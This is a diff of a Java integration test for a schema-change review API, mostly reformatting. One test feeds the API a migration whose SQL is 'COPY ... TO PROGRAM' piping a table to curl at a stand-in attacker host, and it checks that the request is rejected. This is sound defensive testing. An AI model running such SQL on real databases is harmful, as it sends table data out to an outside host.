@@ -172,10 +172,14 @@ class RequestLifecycleIT {
     @Test
     @Order(6)
     void aTeamPreChecksAMigrationFromItsCiAndNothingIsSubmitted() throws Exception {
-        int before = api.get(tokens.get("alice"), "/api/v1/requests?limit=200").body().path("items").size();
-        String copyToProgram = "{\"type\":\"SCHEMA_CHANGE\",\"target\":{\"database\":\"logicore\",\"schema\":\"routing\"},"
-                + "\"payload\":{\"migrations\":[{\"version\":\"9\",\"description\":\"dump\","
-                + "\"sql\":\"COPY routing.stops TO PROGRAM 'curl -T - http://evil.example'\"}]}}";
+        int before = api.get(tokens.get("alice"), "/api/v1/requests?limit=200")
+                .body()
+                .path("items")
+                .size();
+        String copyToProgram =
+                "{\"type\":\"SCHEMA_CHANGE\",\"target\":{\"database\":\"logicore\",\"schema\":\"routing\"},"
+                        + "\"payload\":{\"migrations\":[{\"version\":\"9\",\"description\":\"dump\","
+                        + "\"sql\":\"COPY routing.stops TO PROGRAM 'curl -T - http://evil.example'\"}]}}";
         var rejected = api.post(tokens.get("alice"), "/api/v1/requests/evaluate", copyToProgram);
         assertThat(rejected.status()).as(rejected.body().toString()).isEqualTo(200);
         assertThat(rejected.text("outcome")).isEqualTo("REJECTED");
@@ -186,9 +190,14 @@ class RequestLifecycleIT {
                 + "\"sql\":\"ALTER TABLE routing.stops ALTER COLUMN seq TYPE bigint\"}]}}";
         var review = api.post(tokens.get("alice"), "/api/v1/requests/evaluate", typeChange);
         assertThat(review.text("outcome")).isEqualTo("NEEDS_APPROVAL");
-        assertThat(review.body().path("findings").findValuesAsText("code")).contains("column.type-change", "dryrun.observed");
+        assertThat(review.body().path("findings").findValuesAsText("code"))
+                .contains("column.type-change", "dryrun.observed");
 
-        assertThat(api.get(tokens.get("alice"), "/api/v1/requests?limit=200").body().path("items").size()).isEqualTo(before);
+        assertThat(api.get(tokens.get("alice"), "/api/v1/requests?limit=200")
+                        .body()
+                        .path("items")
+                        .size())
+                .isEqualTo(before);
     }
 
     private static JsonNode awaitState(String token, String id, String state) {
